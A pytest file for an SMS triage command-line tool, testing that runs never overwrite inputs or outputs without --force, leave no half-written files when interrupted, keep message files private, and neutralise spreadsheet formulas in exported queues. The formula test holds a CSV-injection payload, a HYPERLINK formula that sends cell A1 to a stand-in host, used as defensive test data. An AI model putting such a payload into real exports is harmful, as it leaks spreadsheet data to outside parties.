"""What a run must never do to the user's files: replace an output without --force, write over an
input, leave a half-written output when interrupted or killed, leave messages readable by
others, or let a spreadsheet run a formula from an exported queue. (What a clean
failure is: `failed` in tests/conftest.py.)"""


from __future__ import annotations

import csv
import io
import os
import signal
import stat
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from conftest import (
    NAMES,
    ORDINARY,
    READING_COMMANDS,
    REPO,
    command_line,
    failed,
    fill_queue,
    nothing_written,
    read_rows,
    run,
    succeeded,
    write_table,
)

from triage import classifier

# ----------------------------------------------------------------------------- outputs


@pytest.mark.parametrize("command", READING_COMMANDS)
def test_an_output_in_a_missing_folder_is_created(cli, labelled, tmp_path, command):
    deep = tmp_path / "a" / "b" / "c"
    succeeded(run(cli, command, labelled, deep))
    assert any(deep.iterdir())
    if command in ("seek", "classify"):  # folders made for private files are private too
        assert stat.S_IMODE((tmp_path / "a").stat().st_mode) & 0o077 == 0


WRITING = ["seek", "classify", "train"]


def output_of(command: str, out: Path) -> Path:
    return out / {"seek": "seek.csv", "classify": "classified.csv", "train": "model.triage"}[command]


@pytest.mark.parametrize("command", WRITING)
def test_an_existing_output_needs_force(cli, labelled, out, command):
    target = output_of(command, out)
    out.mkdir()
    target.write_bytes(b"precious work\n")
    failed(run(cli, command, labelled, out), 1, "exists; use --force")
    assert target.read_bytes() == b"precious work\n"
    assert sorted(p.name for p in out.iterdir()) == [target.name]  # no temporary file left
    succeeded(run(cli, command, labelled, out, "--force"))
    assert target.read_bytes() != b"precious work\n"
    if command == "train":
        assert zipfile.is_zipfile(target)
    else:
        assert len(read_rows(target)) == 24


def test_queue_outputs_need_force(cli, expert_classified, tmp_path):
    queue, final = tmp_path / "queue.csv", tmp_path / "final.csv"
    succeeded(cli("queue", "export", expert_classified, "-o", queue))
    fill_queue(queue)
    for path in (tmp_path / "other.csv", final):
        path.write_bytes(b"precious work\n")
    failed(cli("queue", "export", expert_classified, "-o", tmp_path / "other.csv"), 1, "exists; use --force")
    apply = ["queue", "apply", queue, expert_classified, "-o", final]
    failed(cli(*apply), 1, "exists; use --force")
    assert final.read_bytes() == (tmp_path / "other.csv").read_bytes() == b"precious work\n"
    succeeded(cli(*apply, "--force"))
    assert [r["final"] for r in read_rows(final)] == ["NTA"] * 8


@pytest.mark.parametrize("command", WRITING)
def test_the_input_is_never_the_output_even_with_force(cli, labelled, command):
    before = labelled.read_bytes()
    args = command_line(command, labelled, labelled.parent)
    args[args.index("-o") + 1] = labelled
    failed(cli(*args, "--force"), 1, "input file")
    assert labelled.read_bytes() == before


def test_the_queue_of_classify_is_never_its_input_or_output(cli, labelled, tmp_path):
    before = labelled.read_bytes()
    out = tmp_path / "classified.csv"
    failed(cli("classify", labelled, "-o", out, "--queue", labelled, "--force"), 1, "input file")
    assert labelled.read_bytes() == before
    failed(cli("classify", labelled, "-o", out, "--queue", out, "--force"), 1, "given for two outputs")
    assert not out.exists()  # refused before classifying anything


def test_queue_commands_never_write_over_their_inputs(cli, expert_classified, tmp_path):
    queue = tmp_path / "queue.csv"
    succeeded(cli("queue", "export", expert_classified, "-o", queue))
    fill_queue(queue)
    saved = {p: p.read_bytes() for p in (expert_classified, queue)}
    failed(cli("queue", "export", expert_classified, "-o", expert_classified, "--force"), 1, "input file")
    for target in (queue, expert_classified):
        failed(cli("queue", "apply", queue, expert_classified, "-o", target, "--force"), 1, "input file")
    assert {p: p.read_bytes() for p in saved} == saved


@pytest.mark.parametrize("command", READING_COMMANDS + ("queue export",))
def test_a_missing_input_or_a_folder(cli, tmp_path, out, command):
    for source, error in ((tmp_path / "nowhere.csv", "nowhere.csv: no such file"), (tmp_path, "is a folder")):
        if command == "queue export":
            result = cli("queue", "export", source, "-o", out / "queue.csv")
        else:
            result = run(cli, command, source, out)
        failed(result, 1, error)
    nothing_written(out)


# ---------------------------------------------------------------------- the input file


def snapshot(path: Path) -> tuple:
    info = path.stat()
    return path.read_bytes(), info.st_mtime_ns, stat.S_IMODE(info.st_mode)


@pytest.mark.parametrize(
    "command", READING_COMMANDS + ("report cv", "report holdout", "report infogain", "queue export", "queue apply")
)
def test_the_input_is_never_modified(cli, labelled, request, tmp_path, out, command):
    if command.startswith("queue"):
        expert_classified = request.getfixturevalue("expert_classified")
        queue = tmp_path / "queue.csv"
        if command == "queue apply":
            succeeded(cli("queue", "export", expert_classified, "-o", queue))
            fill_queue(queue, "TA")
            time.sleep(0.01)  # a rewrite would show in the modification time
            inputs = [queue, expert_classified]
            args = ["queue", "apply", queue, expert_classified, "-o", out / "final.csv"]
        else:
            inputs = [expert_classified]
            args = ["queue", "export", expert_classified, "-o", queue]
    else:
        inputs = [labelled]
        args = command_line(command, labelled, out)
    before = [snapshot(p) for p in inputs]
    succeeded(cli(*args))
    assert [snapshot(p) for p in inputs] == before


# --------------------------------------------------------------------- interrupted runs


class Interrupt:
    """Replaces a function: works `calls` times, then raises KeyboardInterrupt (Ctrl-C)."""

    def __init__(self, original, calls: int):
        self.original, self.calls = original, calls

    def __get__(self, instance, owner):  # used as a method
        return self if instance is None else lambda *a, **k: self(instance, *a, **k)

    def __call__(self, *args, **kwargs):
        if self.calls <= 0:
            raise KeyboardInterrupt
        self.calls -= 1
        return self.original(*args, **kwargs)


def interrupt(monkeypatch, command: str) -> None:
    """Make `command` stop half way, after part of its output was written."""
    from triage.queue import files as queue_module
    from triage.io.messages import MessageTable
    from triage.seekhide import SeekAndHide

    if command in ("seek", "classify"):
        pairs = MessageTable.pairs
        monkeypatch.setattr(MessageTable, "pairs", lambda self, size=0, characters=None: pairs(self, 5))
    if command == "seek":
        monkeypatch.setattr(SeekAndHide, "analyse", Interrupt(SeekAndHide.analyse, 1))
    elif command == "classify":
        monkeypatch.setattr(classifier.Classifier, "classify", Interrupt(classifier.Classifier.classify, 1))
    elif command == "train":  # stopped while the model file is being written
        from triage.io import outputs

        def write_half(path, data, **options):
            with outputs.atomic_output(path, binary=True, **options) as handle:
                handle.write(data[: len(data) // 2])
                raise KeyboardInterrupt

        monkeypatch.setattr(outputs, "write_bytes", write_half)
    elif command == "queue export":
        monkeypatch.setattr(queue_module, "_queue_record", Interrupt(queue_module._queue_record, 2))


@pytest.mark.parametrize("command", ["seek", "classify", "train", "queue export"])
@pytest.mark.parametrize("existing", [False, True], ids=["new", "forced"])
def test_an_interrupted_run_leaves_no_half_written_output(cli, labelled, request, monkeypatch, out, command, existing):
    if command == "queue export":
        expert_classified = request.getfixturevalue("expert_classified")
        args, target = ["queue", "export", expert_classified, "-o", out / "queue.csv"], out / "queue.csv"
    else:
        args, target = command_line(command, labelled, out), output_of(command, out)
    if existing:
        out.mkdir()
        target.write_bytes(b"the previous run\n")
        args.append("--force")
    interrupt(monkeypatch, command)
    result = cli(*args)
    assert result.exit_code == 130, result.output  # click's exit code for Ctrl-C
    assert isinstance(result.exception, SystemExit)
    if existing:  # the previous output is still whole
        assert target.read_bytes() == b"the previous run\n"
        assert [p.name for p in out.iterdir()] == [target.name]
    else:
        nothing_written(out)


@pytest.fixture(scope="module")
def big_corpus(tmp_path_factory) -> Path:
    import random

    rng = random.Random(8)
    words = ORDINARY + ["demain", "ce soir", "au ciné", "chez moi", "à la gare", "on dit 8h ?"]
    path = tmp_path_factory.mktemp("big") / "big.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "text"])
        for i in range(200_000):
            writer.writerow([i, f"{rng.choice(words)} {rng.choice(NAMES)} {rng.choice(words)} {i % 97}"])
    return path


@pytest.mark.parametrize("signal_number", [signal.SIGINT, signal.SIGTERM], ids=["SIGINT", "SIGTERM"])
@pytest.mark.skipif(os.name != "posix", reason="POSIX signals")
def test_a_killed_classify_leaves_no_output_nor_temporary_file(big_corpus, tmp_path, signal_number):
    folder = tmp_path / "run"
    folder.mkdir()
    process = subprocess.Popen(
        [sys.executable, "-m", "triage", "classify", str(big_corpus), "-o", "out.csv"],
        cwd=folder, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
        env={**os.environ, "PYTHONPATH": str(REPO)},
    )
    try:
        # Wait until the output is being written (its temporary file exists), then stop it.
        deadline = time.monotonic() + 60
        while not any(folder.glob(".out.csv.*.tmp")):
            assert process.poll() is None, process.communicate()
            assert time.monotonic() < deadline, "classify never started writing"
            time.sleep(0.05)
        time.sleep(0.3)
        process.send_signal(signal_number)
        _, stderr = process.communicate(timeout=30)
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
    assert process.returncode != 0, "the run finished before the signal: make the corpus bigger"
    assert b"Traceback" not in stderr, stderr.decode()
    assert sorted(p.name for p in folder.iterdir()) == []


# ------------------------------------------------------------------- private files


@pytest.mark.skipif(os.name != "posix", reason="POSIX permissions")
def test_files_holding_messages_are_private(cli, labelled, tmp_path):
    old = os.umask(0o022)  # the usual umask: new files would be readable by everyone
    try:
        out = tmp_path / "out"
        out.mkdir()
        forced = out / "classified.csv"
        forced.write_text("old\n")
        forced.chmod(0o644)
        succeeded(cli("seek", labelled, "-o", out / "seek.csv"))
        succeeded(cli("classify", labelled, "-o", forced, "--force", "--expert-budget", "1", "--queue", out / "q.html"))
        for name in ("queue.csv", "queue.jsonl"):
            succeeded(cli("queue", "export", forced, "-o", out / name))
        fill_queue(out / "queue.csv", "NTA")
        succeeded(cli("queue", "apply", out / "queue.csv", forced, "-o", out / "final.jsonl"))
    finally:
        os.umask(old)
    for name in ("seek.csv", "classified.csv", "q.html", "queue.csv", "queue.jsonl", "final.jsonl"):
        assert stat.S_IMODE((out / name).stat().st_mode) == 0o600, name


# ------------------------------------------------------------------ spreadsheet safety

FORMULAS = [
    '=HYPERLINK("http://exemple.invalid/?leak="&A1;"clic ici")',
    "+33 6 12 34 56 78 rappelle",
    "-1 point pour toi",
    "@SOMME(A1:A9) lol",
    "=1+1",
]


def test_exported_queues_are_safe_in_a_spreadsheet_and_apply_restores_the_text(cli, tmp_path):
    source = write_table(tmp_path / "sms.csv", [[f"={i}" if i == 0 else str(i), t] for i, t in enumerate(FORMULAS)],
                         ["id", "text"])
    expert_classified = tmp_path / "classified.csv"
    succeeded(cli("classify", source, "-o", expert_classified, "--expert-budget", "1"))
    queue = tmp_path / "queue.csv"
    succeeded(cli("queue", "export", expert_classified, "-o", queue))
    raw = queue.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, so that Excel reads the accents
    cells = [cell for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")) for cell in row]
    assert len(read_rows(queue)) == len(FORMULAS)
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    # the text, and the proposal that shows it with nothing hidden, each neutralised
    assert [(r["text"][:12], r["proposal"][:12]) for r in rows if "HYPERLINK" in r["text"]] == [("'=HYPERLINK(",) * 2]

    fill_queue(queue, "NTA")
    final = tmp_path / "final.csv"
    succeeded(cli("queue", "apply", queue, expert_classified, "-o", final))
    released = read_rows(final, encoding="utf-8")
    assert [r["final_text"] for r in released] == FORMULAS  # the data file itself is not altered
    assert released[0]["id"] == "=0"


